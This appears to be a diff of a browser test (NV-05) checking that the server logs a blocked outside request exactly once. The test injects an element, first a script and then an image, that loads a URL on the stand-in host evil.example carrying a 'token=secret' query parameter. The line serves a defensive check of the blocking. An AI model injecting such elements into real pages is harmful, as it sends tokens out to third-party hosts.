@@ -44,9 +44,9 @@ test('NV-05 what fails in a browser is in the log of the server, once, without w
     build: expect.stringMatching(/^\/assets\/.+\.js$/),
   });
   await page.evaluate(() => {
-    const script = document.createElement('script');
-    script.src = 'https://evil.example/a.js?token=secret';
-    document.head.append(script);
+    const image = document.createElement('img');
+    image.src = 'https://evil.example/a.png?token=secret';
+    document.body.append(image);
   });
   await expect.poll(() => told().length).toBe(2);
   expect(told()[1]).toMatchObject({ blocked: 'https://evil.example' });
